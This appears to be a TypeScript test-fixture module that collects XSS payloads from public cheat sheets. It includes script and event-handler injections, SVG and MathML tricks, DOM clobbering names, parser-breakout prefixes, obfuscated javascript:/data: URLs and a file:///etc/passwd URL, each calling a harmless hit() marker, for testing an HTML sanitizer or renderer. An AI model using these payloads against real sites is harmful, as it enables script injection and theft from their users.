/**
 * Texts and URLs that attack whoever shows them: what public lists collect (DOMPurify's cases, the
 * HTML5 Security Cheatsheet, PortSwigger's cheat sheet), put together from the families they form.
 * Each text calls `hit()`, a function of the page, if anything in it runs.
 */

/** HTML that runs `hit()` as soon as it is in a page, or when it is touched. */
const shots = [
  '<script>hit()</script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<script type="module">hit()</script>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:text/javascript,hit()" /></svg>',
  '<img src=x onerror=hit()>',
  '<image src=x onerror=hit()>',
  "<img/src=x id/=' onerror=hit()//'>",
  '<img src=`x` onerror=hit()>',
  '<svg/onload=hit()>',
  '<svg><image href=x onerror=hit()></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set onbegin=hit() attributeName=x>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:hit()">x</math>',
  '<math><maction actiontype=statusline xlink:href="javascript:hit()">x</maction></math>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
  '<embed src="javascript:hit()">',
  '<video><source onerror=hit()></video>',
  '<video src=x onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<details open ontoggle=hit()>x</details>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()>',
  '<textarea autofocus onfocus=hit()>',
  '<button autofocus onfocus=hit()>x</button>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hit()>x</div>',
  '<div contenteditable autofocus onfocus=hit()>x</div>',
  '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=hit()>x</b>',
  '<style>@import "data:text/css,*{background:url(javascript:hit())}";</style>',
  '<b style="background:url(javascript:hit());behavior:url(#default#x);-moz-binding:url(x)">x</b>',
  '<b style="x:expression(hit())">x</b>',
  '<marquee onstart=hit()>x</marquee>',
  '<body onload=hit()>',
  '<body onpageshow=hit()>',
  '<frameset onload=hit()>',
  '<link rel=stylesheet href=x onerror=hit()>',
  '<link rel=preload as=script href="data:text/javascript,hit()">',
  '<base href="javascript:hit()//">',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:hit()">x</button>',
  '<isindex action="javascript:hit()" type=image>',
  '<a href="javascript:hit()">x</a>',
  '<a href="https://example.com" ping="https://spy.example" onclick=hit()>x</a>',
  '<a href="https://example.com" style="position:fixed;inset:0" onmouseover=hit()>x</a>',
  '<area href="javascript:hit()" shape=default>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<template><s><template><s><img src=x onerror=hit()></s></template></s></template>',
  '<private-podcast-subscribe feed-url="https://spy.example/feed">x</private-podcast-subscribe>',
  '<x-y onclick=hit() is=x onpointerenter=hit()>x</x-y>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=hit()>">]><b>&y;</b>',
];

/** Names that would hide properties of a form or of the document (DOM clobbering). */
const clobbering = ['attributes', 'children', 'parentNode', 'nodeName', 'innerHTML', 'content']
  .map((name) => `<form onclick=hit()><input name=${name}>x</form><img name=${name} src=x>`)
  .concat(
    ['body', 'documentElement', 'createElement', 'cookie', 'location', 'currentScript'].map(
      (name) => `<img src=x name=${name} id=${name}><a id=${name} name=${name}>x</a>`,
    ),
  );

/** Beginnings that end the place of a text, or change its meaning when it is read again. */
const openings = [
  '">',
  "'>",
  '`>',
  '--!>',
  '-->',
  ']]>',
  '?>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</template>',
  '</iframe></noscript></noembed></noframes></xmp>',
  '&lt;/p&gt;',
  '<!--><!-->',
  '<![CDATA[><!--]]>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;',
  '<math></p><textarea><mi><style></textarea>',
  '<svg></p><math><title><style>',
  '<svg></p><style><g title="</style>',
  '<form><math><mtext></form><form><mglyph><style></math>',
  '<xmp><svg><b><style><b title="</style></xmp>',
  '<noscript><p title="</noscript>',
  '<select><style></select>',
  '<table><td><svg><desc>',
  '<svg><style>/*</style>*/',
  '<p id="</p>',
  '\u2028\u2029\ufeff\u202e',
  '${',
  '{{',
  '<%',
];
/** Those shots that any of the openings is tried with. */
const afterOpening = [shots[0]!, shots[5]!, shots[9]!];

/** Spellings of a scheme that some reader takes for it. */
const spellings = (scheme: string): string[] => [
  `${scheme}:`,
  `${scheme.toUpperCase()}:`,
  ` ${scheme}:`,
  `\u0001${scheme}:`,
  `\u00a0${scheme}:`,
  `\u1680${scheme}:`,
  `\ufeff${scheme}:`,
  `${scheme.slice(0, 4)}\t${scheme.slice(4)}:`,
  `${scheme.slice(0, 4)}\n${scheme.slice(4)}:`,
  `${scheme.slice(0, 4)}\r\n${scheme.slice(4)}:`,
  `${scheme.slice(0, 4)}\0${scheme.slice(4)}:`,
  `${scheme}\t:`,
  `${scheme}&colon;`,
  `${scheme}&#58;`,
  `${scheme}%3A`,
  `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  `view-source:${scheme}:`,
  `feed:${scheme}:`,
  `jar:${scheme}:`,
];

/** URLs that run something, or that leave the attribute they stand in. */
export const hostileUrls: readonly string[] = [
  ...spellings('javascript').map((start) => `${start}hit()`),
  ...spellings('javascript').map((start) => `${start}//https://example.com/%0ahit()`),
  ...spellings('vbscript').map((start) => `${start}hit()`),
  ...spellings('data').map((start) => `${start}text/html,<script>hit()</script>`),
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'filesystem:https://example.com/1',
  'about:srcdoc',
  'https://example.com/" onerror="hit()" x="',
  "https://example.com/' onerror='hit()' x='",
  'https://example.com/><script>hit()</script>',
  'https://example.com/` onerror=hit()',
  'https://example.com/");background:url(javascript:hit()',
  'https://user:password@example.com/',
  '//example.com/\\..\\',
  'javascript://example.com/?%0ahit()#https://example.com',
];

/** Texts that run something where they are taken for HTML. */
export const hostileTexts: readonly string[] = [
  ...shots,
  ...clobbering,
  ...openings.flatMap((opening) => afterOpening.map((shot) => opening + shot)),
  ...hostileUrls.map((url) => `<a href="${url.replaceAll('"', '&quot;')}">x</a>`),
  ...hostileUrls
    .slice(0, 8)
    .map((url) => `<img src="${url}" srcset="${url} 2x"><video poster="${url}">`),
  // Escaped once more: harmless, unless somebody decodes it once too often.
  ...afterOpening.map((shot) => shot.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
  ...afterOpening.map((shot) => shot.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;')),
];
